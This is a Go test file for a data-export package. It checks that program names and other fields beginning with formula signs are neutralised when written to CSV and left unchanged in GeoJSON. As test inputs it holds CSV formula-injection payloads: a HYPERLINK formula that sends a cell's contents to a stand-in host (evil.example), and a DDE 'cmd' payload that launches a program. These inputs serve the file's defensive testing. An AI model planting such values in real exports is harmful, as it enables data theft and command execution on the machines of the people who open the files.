package export

import (
	"bytes"
	"context"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/paulmach/orb"
	"github.com/paulmach/orb/geojson"
	"stemgap/data"
)

func TestSpreadsheetSafe(t *testing.T) {
	for in, want := range map[string]string{
		`=HYPERLINK("http://x.example/?"&A1,"click")`: `'=HYPERLINK("http://x.example/?"&A1,"click")`,
		"+1+cmd|' /C calc'!A0":                        "'+1+cmd|' /C calc'!A0",
		"-2+3":                                        "'-2+3",
		"@SUM(A1:A9)":                                 "'@SUM(A1:A9)",
		"\t=1+1":                                      "'\t=1+1",
		"\r=1+1":                                      "'\r=1+1",
		"\n=1+1":                                      "'\n=1+1",
		"＝1+1":                                        "'＝1+1",
		"-":                                           "'-",
		"--1":                                         "'--1",
		"-1e3x":                                       "'-1e3x",
		// Plain numbers stay numbers.
		"-3.5": "-3.5", "+2": "+2", "-0.25e-3": "-0.25e-3", "-.5": "-.5", "-7.": "-7.",
		// Text that starts otherwise is untouched, formula signs inside it included.
		"Science Center": "Science Center", "a=b": "a=b", " =1": " =1", "": "", "Física": "Física", "数学": "数学",
	} {
		if got := spreadsheetSafe(in); got != want {
			t.Errorf("spreadsheetSafe(%q) = %q, want %q", in, got, want)
		}
	}
}

// Defect 4 (CSV part): names starting with =, + or @ were written verbatim, and a spreadsheet
// ran them as formulas. In CSV they are neutralised; GeoJSON, read by GIS, keeps them as they are.
func TestCSVExportNeutralisesFormulas(t *testing.T) {
	run, areas, programs := syntheticRun(t)
	hostile := []data.Program{
		{ID: "-42", Name: `=HYPERLINK("http://evil.example/?"&A1,"Open")`, Provider: "@SUM(1+1)*cmd|' /C calc'!A0", Source: "+synthetic", Location: orb.Point{-90.25, 38.61}, Capacity: -3.5},
		{ID: "p2", Name: "-3.5", Provider: "\t=1", Setting: "\r=2", Source: "synthetic", Location: orb.Point{-90.24, 38.61}, Capacity: 10},
	}
	programs = append(programs, hostile...)
	var b bytes.Buffer
	if err := Write(context.Background(), &b, Request{Format: FormatCSV, Layer: LayerPrograms, Setting: data.AllSettings}, tablesOf(t, run), areas, programs); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&b).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	got := map[string][]string{}
	for _, r := range rows[1:] {
		got[r[0]] = r
	}
	want := map[string][]string{
		// id, name, provider, …, setting, capacity, source
		"-42": {"-42", `'=HYPERLINK("http://evil.example/?"&A1,"Open")`, "'@SUM(1+1)*cmd|' /C calc'!A0", "", "-3.5", "'+synthetic"},
		"p2":  {"p2", "-3.5", "'\t=1", "'\r=2", "10", "synthetic"},
	}
	for id, w := range want {
		r := got[id]
		if r == nil {
			t.Fatalf("program %s missing from %v", id, rows)
		}
		if g := []string{r[0], r[1], r[2], r[6], r[7], r[8]}; strings.Join(g, "|") != strings.Join(w, "|") {
			t.Errorf("program %s exported as %q, want %q", id, g, w)
		}
	}
	for _, r := range rows {
		for _, cell := range r {
			if cell != "" && strings.ContainsRune("=+@\t\r", rune(cell[0])) {
				t.Errorf("a cell still starts with a formula sign: %q", cell)
			}
		}
	}
	b.Reset()
	if err := Write(context.Background(), &b, Request{Format: FormatGeoJSON, Layer: LayerPrograms}, tablesOf(t, run), areas, programs); err != nil {
		t.Fatal(err)
	}
	fc, err := geojson.UnmarshalFeatureCollection(b.Bytes())
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range fc.Features {
		if f.Properties["id"] == "-42" && f.Properties["name"] != hostile[0].Name {
			t.Errorf("GeoJSON changed the name to %q", f.Properties["name"])
		}
	}
}
